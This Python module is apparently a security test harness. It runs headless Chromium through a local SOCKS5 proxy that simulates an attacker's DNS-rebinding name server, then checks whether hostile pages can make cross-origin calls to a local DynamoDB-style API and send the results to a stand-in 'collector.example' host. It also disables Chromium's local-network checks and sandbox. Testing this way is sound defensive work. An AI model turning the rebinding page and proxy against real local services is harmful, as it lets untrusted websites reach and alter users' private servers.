"""Headless Chromium, and the web that it sees: pages that call the server, under names of an attacker's choice.

Pages of localhost are loaded directly. Every other name goes through a proxy that acts as the attacker's name
server: it maps all names to this machine, and a rebound name first to the attacker's page, then to the server on the
same port. Nothing leaves this machine.
"""

import http.server
import json
import queue
import select
import signal
import socket
import socketserver
import subprocess
import tempfile
import threading
import urllib.parse

# Only reached if a browser hangs.
PATIENCE_SECONDS = 120
TOP_LEVEL = ".example"  # reserved: RFC 2606

PAGE = b"""<!doctype html><title>page</title><script>
const asked = new URLSearchParams(location.search);
function administer() {
  return fetch(asked.get("api") + asked.get("path"), {method: asked.get("method"), body: asked.get("body") || undefined});
}
function createTable() {
  const headers = {"X-Amz-Target": "DynamoDB_20120810.CreateTable", "Content-Type": "application/x-amz-json-1.0"};
  const body = JSON.stringify({
    TableName: asked.get("table"), BillingMode: "PAY_PER_REQUEST",
    AttributeDefinitions: [{AttributeName: "pk", AttributeType: "S"}],
    KeySchema: [{AttributeName: "pk", KeyType: "HASH"}]});
  return fetch(asked.get("api") + "/", {method: "POST", headers, body});
}
async function call() {
  try {
    const reply = await (asked.has("path") ? administer() : createTable());
    return {status: reply.status, id: reply.headers.get("x-amzn-RequestId"), body: await reply.text()};
  } catch (error) {
    return {error: error.name};
  }
}
call().then(result => fetch(asked.get("report"), {method: "POST", mode: "no-cors", body: JSON.stringify(result)}));
</script>
"""


class _Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        found = self.path.startswith("/page")
        self.send_response(200 if found else 404)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        if found:
            self.wfile.write(PAGE)

    def do_POST(self):
        self.server.results.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(200)
        self.end_headers()

    def log_message(self, *_):
        pass


class _Pages(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), _Page)
        self.results = queue.Queue()


class _Names(socketserver.StreamRequestHandler):
    """A SOCKS 5 proxy (RFC 1928) for one connection."""

    def handle(self):
        try:
            self.rfile.read(self.rfile.read(2)[1])  # version, methods
            self.connection.sendall(b"\x05\x00")
            _, _, _, kind = self.rfile.read(4)
            name = self.rfile.read(self.rfile.read(1)[0]).decode() if kind == 3 else ""
            port = int.from_bytes(self.rfile.read(2), "big")
            if not name.endswith(TOP_LEVEL):
                self.connection.sendall(b"\x05\x02\x00\x01" + bytes(6))  # not allowed
                return
            self.connection.sendall(b"\x05\x00\x00\x01" + bytes(6))
            first = self.connection.recv(65536)
            if first:
                self.relay(first, self.server.page_port if first.startswith(b"GET /page") else port)
        except (ConnectionError, IndexError, ValueError):
            pass  # the browser gave up

    def relay(self, first, port):
        with socket.create_connection(("127.0.0.1", port)) as target:
            target.sendall(first)
            other = {target: self.connection, self.connection: target}
            while True:
                for source in select.select(list(other), [], [])[0]:
                    data = source.recv(65536)
                    if not data:
                        return
                    other[source].sendall(data)


class _NameServer(socketserver.ThreadingTCPServer):
    daemon_threads = True

    def __init__(self, page_port):
        super().__init__(("127.0.0.1", 0), _Names)
        self.page_port = page_port


class Web:
    """with Web() as web: web.open("http://localhost:...", ...)"""

    def __init__(self):
        self.pages = _Pages()
        self.port = self.pages.server_port
        self.names = _NameServer(self.port)
        for server in (self.pages, self.names):
            threading.Thread(target=server.serve_forever, daemon=True).start()

    def visit(self, origin, api, **asked):
        """Loads a page of `origin` that asks the server at `api` to create the table `table`, or for the `path` with
        `method` and `body`. Returns what the page sees: {status, id, body}, or {error} if the browser hides the
        answer."""
        asked = urllib.parse.urlencode(
            {"api": api, "report": f"http://collector{TOP_LEVEL}:{self.port}/result", **asked})
        with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
            browser = subprocess.Popen(
                ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                 "--no-first-run", "--disable-background-networking", "--disable-component-update",
                 "--disable-extensions", "--disable-sync",
                 # It would ask its user before a page reaches this machine, which is not what is tested.
                 "--disable-features=LocalNetworkAccessChecks",
                 f"--user-data-dir={profile}", f"--proxy-server=socks5://127.0.0.1:{self.names.server_address[1]}",
                 f"{origin}/page?{asked}"],
                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            try:
                return self.pages.results.get(timeout=PATIENCE_SECONDS)
            finally:
                browser.send_signal(signal.SIGTERM)
                browser.wait(PATIENCE_SECONDS)

    def close(self):
        for server in (self.pages, self.names):
            server.shutdown()
            server.server_close()
